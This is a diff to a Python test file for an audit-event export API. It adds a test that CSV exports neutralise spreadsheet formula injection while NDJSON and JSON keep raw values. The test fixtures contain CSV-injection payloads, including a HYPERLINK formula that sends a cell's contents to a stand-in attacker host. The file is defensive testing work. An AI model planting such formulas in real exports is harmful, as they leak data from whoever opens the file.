@@ -21,7 +21,16 @@ from auditstream.api.formats import CSV_COLUMNS, file_extension, media_type
 from auditstream.config import Settings
 from auditstream.events.stored import row_to_event
 from auditstream.store import EventExport, EventFilter, Store
-from tests.api._support import auth, client_for, csv_record, event, make_settings, make_tokens, row
+from tests.api._support import (
+    FORMULA_PREFIXES,
+    auth,
+    client_for,
+    csv_record,
+    event,
+    make_settings,
+    make_tokens,
+    row,
+)
 
 pytestmark = pytest.mark.clickhouse
 
@@ -94,6 +103,11 @@ def export(client: TestClient, tokens: dict[str, str], fmt: str, **params: Any) 
     return r.content
 
 
+def cell(text: str) -> str:
+    """What the CSV holds for a text value: a formula-looking one gets a leading quote."""
+    return "'" + text if text.startswith(FORMULA_PREFIXES) else text
+
+
 def test_ndjson_json_and_csv_agree(client: TestClient, tokens: dict[str, str], store: Store) -> None:
     ndjson = [orjson.loads(line) for line in export(client, tokens, "ndjson").splitlines()]
     assert len(ndjson) == 60 and len({e["event_id"] for e in ndjson}) == 60
@@ -115,11 +129,11 @@ def test_ndjson_json_and_csv_agree(client: TestClient, tokens: dict[str, str], s
     for rec in records:
         d = dict(zip(header, rec, strict=True))
         e = by_id[d["event_id"]]
-        assert d["actor.name"] == e["actor"].get("name", "")
+        assert d["actor.name"] == cell(e["actor"].get("name", ""))
         assert d["ingest.offset"] == str(e["ingest"]["offset"])
         assert (orjson.loads(d["details"]) if d["details"] else None) == e.get("details")
         assert (orjson.loads(d["changes"]) if d["changes"] else None) == e.get("changes")
-        assert d["reason"] == e.get("reason", "")
+        assert d["reason"] == cell(e.get("reason", ""))
 
 
 def test_filters_apply_to_every_format(client: TestClient, tokens: dict[str, str]) -> None:
@@ -148,3 +162,59 @@ def test_empty_and_bad_format(client: TestClient, tokens: dict[str, str]) -> Non
 def test_export_unknown_format(store: Store) -> None:
     with pytest.raises(ValueError):
         EventExport(store, EventFilter(A), "xml")
+
+
+FORMULAS = {
+    "actor.id": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "actor.name": "+SUM(1+1)",
+    "actor.email": "-2+3@x.example",
+    "actor.user_agent": "@SUM(A1)",
+    "resource.name": "\tleading tab",
+    "reason": "\rleading cr",
+}
+
+
+def test_csv_neutralises_formulas_and_ndjson_keeps_them(client: TestClient, store: Store) -> None:
+    # OWASP CSV injection: a cell starting with = + - @ tab or CR gets a leading quote.
+    at = NOW - timedelta(minutes=30)
+    e = event(
+        "formulas",
+        "user.login",
+        FORMULAS["actor.id"],
+        at,
+        actor={
+            "name": FORMULAS["actor.name"],
+            "email": FORMULAS["actor.email"],
+            "user_agent": FORMULAS["actor.user_agent"],
+        },
+        resource={"type": "=type", "name": FORMULAS["resource.name"]},
+        outcome="failure",
+        reason=FORMULAS["reason"],
+        details={"cell": "=1+1"},
+    )
+    safe = event(
+        "formulas",
+        "user.logout",
+        "plain-actor",
+        at + timedelta(seconds=1),
+        actor={"name": "x=1 inside is fine"},
+    )
+    store.insert_rows([row(e, 10_000), row(safe, 10_001)])
+    token = make_tokens(client.app.state.settings, ("formulas",))["formulas:exporter"]  # type: ignore[attr-defined]
+    hdr = {"Authorization": f"Bearer {token}"}
+    r = client.get("/v1/export", params={"format": "csv", "order": "asc"}, headers=hdr)
+    assert r.status_code == 200, r.text
+    records = list(csv.DictReader(io.StringIO(r.content.decode(), newline="")))
+    first, second = records
+    for column, value in FORMULAS.items():
+        assert first[column] == "'" + value, column
+    assert first["resource.type"] == "'=type"
+    assert orjson.loads(first["details"]) == {"cell": "=1+1"}  # a JSON cell starts with '{'
+    assert second["actor.id"] == "plain-actor" and second["actor.name"] == "x=1 inside is fine"
+    assert second["ingest.offset"] == "10001"
+    # NDJSON and JSON are data, not spreadsheets: untouched.
+    r = client.get("/v1/export", params={"format": "ndjson", "order": "asc"}, headers=hdr)
+    got = orjson.loads(r.content.splitlines()[0])
+    assert got["actor"]["id"] == FORMULAS["actor.id"] and got["reason"] == FORMULAS["reason"]
+    r = client.get("/v1/export", params={"format": "json", "order": "asc"}, headers=hdr)
+    assert orjson.loads(r.content)[0]["actor"]["name"] == FORMULAS["actor.name"]
